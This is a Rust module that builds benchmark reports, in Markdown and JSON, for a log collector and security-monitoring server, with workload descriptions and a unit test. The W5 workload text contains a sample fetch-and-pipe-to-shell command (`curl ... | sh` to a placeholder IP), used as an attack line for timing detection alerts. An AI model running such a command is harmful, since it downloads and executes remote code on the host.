//! Benchmark results: rows of figures with their baselines and targets, rendered as
//! the Markdown of docs/BENCHMARKS.md and as JSON.

use serde::Serialize;

/// One measured figure.
#[derive(Debug, Clone, Serialize)]
pub struct Row {
    /// Workload id, e.g. `W1`.
    pub workload: &'static str,
    /// What was measured.
    pub what: String,
    pub value: f64,
    pub unit: &'static str,
    /// The reference measured in the same run, if any: its name and value.
    pub baseline: Option<(String, f64)>,
    /// The goal, in words.
    pub target: &'static str,
    pub note: String,
}

impl Row {
    pub fn new(
        workload: &'static str,
        what: impl Into<String>,
        value: f64,
        unit: &'static str,
    ) -> Row {
        Row {
            workload,
            what: what.into(),
            value,
            unit,
            baseline: None,
            target: "",
            note: String::new(),
        }
    }

    pub fn baseline(mut self, name: impl Into<String>, value: f64) -> Row {
        self.baseline = Some((name.into(), value));
        self
    }

    pub fn target(mut self, target: &'static str) -> Row {
        self.target = target;
        self
    }

    pub fn note(mut self, note: impl Into<String>) -> Row {
        self.note = note.into();
        self
    }
}

/// A whole run.
#[derive(Debug, Clone, Serialize)]
pub struct Report {
    pub date: String,
    pub mode: &'static str,
    pub machine: String,
    /// Load of the machine around the run (it is shared).
    pub load: String,
    pub commit: String,
    pub rows: Vec<Row>,
}

fn fmt(v: f64) -> String {
    if v >= 100.0 {
        format!("{v:.0}")
    } else if v >= 1.0 {
        format!("{v:.2}")
    } else {
        format!("{v:.3}")
    }
}

impl Report {
    /// The Markdown table.
    pub fn markdown(&self) -> String {
        let mut s = format!(
            "## Run of {} ({} mode)\n\nMachine: {}. Commit: `{}`. The machine is shared: {}.\n\n\
             | workload | what | value | baseline (same run) | ratio | target | note |\n\
             | --- | --- | --- | --- | --- | --- | --- |\n",
            self.date, self.mode, self.machine, self.commit, self.load
        );
        for r in &self.rows {
            let (base, ratio) = match &r.baseline {
                Some((name, v)) if *v > 0.0 => (
                    format!("{name}: {} {}", fmt(*v), r.unit),
                    format!("{:.2}×", r.value / v),
                ),
                Some((name, _)) => (name.clone(), String::from("—")),
                None => (String::from("—"), String::from("—")),
            };
            s.push_str(&format!(
                "| {} | {} | {} {} | {} | {} | {} | {} |\n",
                r.workload,
                r.what,
                fmt(r.value),
                r.unit,
                base,
                ratio,
                r.target,
                r.note
            ));
        }
        s
    }
}

/// Percentile (0..=100) of unsorted samples; 0 when empty.
pub fn percentile(samples: &[f64], p: f64) -> f64 {
    if samples.is_empty() {
        return 0.0;
    }
    let mut v = samples.to_vec();
    v.sort_by(f64::total_cmp);
    let rank = ((p / 100.0) * (v.len() - 1) as f64).round() as usize;
    v[rank.min(v.len() - 1)]
}

/// The whole docs/BENCHMARKS.md: what is measured and how, then the run.
pub fn document(report: &Report) -> String {
    format!(
        "# Benchmarks\n\n\
         Written by `cargo run --release -p logward-bench -- all` (a few minutes here; `--quick` \
         takes under two and writes to `target/bench/`). Every figure stands beside a reference \
         measured in the same run on the same machine, because absolute numbers on a shared \
         2-core machine drift while ratios hold. CI runs the quick mode only to prove the harness \
         works; nothing asserts on speed.\n\n\
         | id | workload | reference in the same run |\n| --- | --- | --- |\n\
         | W1 | the collector tails Docker json-file logs (seeded mix of sshd, sudo, cron, dockerd, \
         audit, nginx, JSON app logs, stack traces; ~100 B–2 KiB with a few 20–100 KiB lines that \
         Docker splits) and ships them to a gRPC sink that acks at once | plain read + JSON decode \
         of the same bytes with the collector's decoder (the decode limit); and the Debian peer, \
         rsyslog (`imfile` → `omfwd` TCP, raw lines, no JSON decode) over the same files to a \
         loopback sink that counts lines |\n\
         | W2 | server ingest: events over gRPC in batches of 1,000, window 16, indexed and acked; \
         once with `[rules] builtin = false`, once with the built-in pack live (the default) | \
         raw tantivy indexing of the same documents with the same schema, one commit; and rules \
         off against rules on |\n\
         | W3 | searches over the W2 events (rules-on server) through the HTTP API, and a terms \
         aggregation on container.name and a date histogram over everything through \
         `/api/v1/aggregate` | the same query strings and the same tantivy aggregation requests \
         run in-process over the same index files |\n\
         | W4 | the Sigma engine over the generated lines (one core, in-process) at 10, 100 and \
         1,000 rules, single-event and with an event_count correlation on every tenth rule | \
         a naive evaluation running every rule's regular expression on every event |\n\
         | W5 | a line appended to a Docker log until it is searchable through the API; and an \
         attack line (`+ curl -fsSL http://203.0.113.x/… \\| sh`) until the built-in pack's alert \
         reaches a webhook receiver in the harness (channel with group_wait 0s, realert 0s, \
         group_interval 1ms, as the rule's detections share one alert and one group), with a \
         background load | — |\n\
         | W6 | the collector's CPU and RSS with 50 idle containers, and at 10k lines/s | — |\n\n\
         The W1 peer needs rsyslog (`scripts/setup-bench-deps.sh` installs it); without it the \
         row says so. The machine is shared with other work, so each run records the load \
         average around it; compare ratios rather than absolute figures.\n\n\
         The rules engine also has criterion micro-benchmarks (`cargo bench -p logward-rules`): \
         on rules whose literals the prefilter can use, 10 / 100 / 1,000 rules ran at about \
         3.3 M / 3.7 M / 2.8 M events/s on one core (2026-11-27), and a correlation key costs \
         about 420–460 bytes. W4 above is harder on purpose: a quarter of its rules are regular \
         expressions without a literal prefix, which run on every event of their log source.\n\n{}",
        report.markdown()
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn percentiles_and_ratios() {
        let s: Vec<f64> = (1..=100).map(f64::from).collect();
        assert_eq!(percentile(&s, 50.0), 51.0);
        assert_eq!(percentile(&s, 99.0), 99.0);
        assert_eq!(percentile(&[], 50.0), 0.0);
        let r = Report {
            date: "d".into(),
            mode: "quick",
            machine: "m".into(),
            load: "l".into(),
            commit: "c".into(),
            rows: vec![
                Row::new("W2", "ingest", 50.0, "events/s")
                    .baseline("raw", 100.0)
                    .target("≥ 70%"),
            ],
        };
        assert!(
            r.markdown()
                .contains("| W2 | ingest | 50.00 events/s | raw: 100 events/s | 0.50× | ≥ 70% |")
        );
    }
}
